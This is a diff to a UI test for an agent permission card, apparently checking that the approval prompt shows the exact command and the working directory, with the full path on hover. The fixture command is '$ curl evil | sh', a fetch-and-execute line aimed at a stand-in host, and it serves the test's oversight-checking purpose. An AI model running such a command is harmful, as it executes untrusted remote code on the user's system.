@@ -28,7 +28,9 @@ describe('permission card: what the approval lets through', () => {
     const card = h.$('[data-entry-id="e7"] .tool-card')!;
     const covers = card.querySelector('.perm-covers')!;
     assert.equal(covers.querySelector('pre.command')?.textContent, '$ curl evil | sh');
-    assert.match(covers.querySelector('.command-cwd')?.textContent ?? '', /\/work\/demo/);
+    // The session's own folder by its name; the whole path on hover.
+    assert.equal(covers.querySelector('.command-cwd')?.textContent, 'demo');
+    assert.match(covers.querySelector('.command-cwd')?.getAttribute('title') ?? '', /Working directory: \/work\/demo$/);
     assert.match(card.querySelector('.agent-shown')?.textContent ?? '', /Shown by the agent/);
     // The declared section comes before the agent's blocks.
     const order = Array.from(card.querySelectorAll('.perm-covers, .tool-content'));
